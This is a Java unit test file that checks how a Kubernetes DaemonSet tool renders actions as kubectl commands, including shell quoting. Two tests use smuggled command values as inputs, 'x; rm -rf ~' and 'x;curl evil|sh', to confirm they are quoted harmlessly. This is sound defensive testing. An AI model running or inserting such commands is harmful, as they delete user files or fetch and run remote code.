package io.everynode.action;

import static org.assertj.core.api.Assertions.assertThat;

import io.everynode.model.ClusterName;
import io.everynode.model.DaemonSetRef;
import io.everynode.model.RevisionNumber;
import java.time.Instant;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class ActionTest {
    private static final DaemonSetRef REF = new DaemonSetRef(new ClusterName("prod"), "logging", "fluent-bit");
    private static final Instant AT = Instant.parse("2026-11-24T07:13:05Z");

    static Stream<Arguments> commands() {
        return Stream.of(
                Arguments.of(new Action.Restart(REF, AT), "rollout restart daemonset/fluent-bit"),
                Arguments.of(
                        new Action.SetImages(REF, Map.of("b", "b:2", "a", "r.example:5000/a@sha256:0f")),
                        "set image daemonset/fluent-bit a=r.example:5000/a@sha256:0f b=b:2"),
                Arguments.of(new Action.Undo(REF, null), "rollout undo daemonset/fluent-bit"),
                Arguments.of(
                        new Action.Undo(REF, new RevisionNumber(11)),
                        "rollout undo daemonset/fluent-bit --to-revision=11"),
                Arguments.of(
                        new Action.SetStrategy(REF, Strategies.of("RollingUpdate", "25%", null), false),
                        "patch daemonset/fluent-bit -p '{\"spec\":{\"updateStrategy\":{\"type\":\"RollingUpdate\","
                                + "\"rollingUpdate\":{\"maxUnavailable\":\"25%\",\"maxSurge\":0}}}}'"),
                Arguments.of(
                        new Action.Delete(REF, Propagation.ORPHAN), "delete daemonset/fluent-bit --cascade=orphan"));
    }

    @ParameterizedTest
    @MethodSource("commands")
    void anActionIsAKubectlCommand(Action action, String command) {
        assertThat(action.kubectl(new KubectlContext("prod")))
                .isEqualTo("kubectl " + command + " -n logging --context prod");
        assertThat(action.kubectl(new KubectlContext(null))).isEqualTo("kubectl " + command + " -n logging");
    }

    @Test
    void whatAShellWouldReadOtherwiseIsQuoted() {
        var hostile = new Action.SetImages(REF, Map.of("a", "x; rm -rf ~ 'y'"));

        assertThat(hostile.kubectl(new KubectlContext("my prod")))
                .isEqualTo("kubectl set image daemonset/fluent-bit 'a=x; rm -rf ~ '\\''y'\\''' -n logging"
                        + " --context 'my prod'");
    }

    @Test
    void aNameThatAClusterMadeUpIsNoCommandEither() {
        var ref = new DaemonSetRef(new ClusterName("prod"), "logging", "x;curl evil|sh");

        assertThat(new Action.Restart(ref, AT).kubectl(new KubectlContext(null)))
                .isEqualTo("kubectl rollout restart 'daemonset/x;curl evil|sh' -n logging");
        assertThat(new Action.Delete(ref, Propagation.ORPHAN).kubectl(new KubectlContext(null)))
                .startsWith("kubectl delete 'daemonset/x;curl evil|sh' ");
    }

    @Test
    void anyTwoRestartsOfOneDaemonSetAreTheSame() {
        assertThat(new Action.Restart(REF, AT).sameAs(new Action.Restart(REF, AT.plusSeconds(9))))
                .isTrue();
        assertThat(new Action.Undo(REF, null).sameAs(new Action.Undo(REF, new RevisionNumber(1))))
                .isFalse();
    }
}
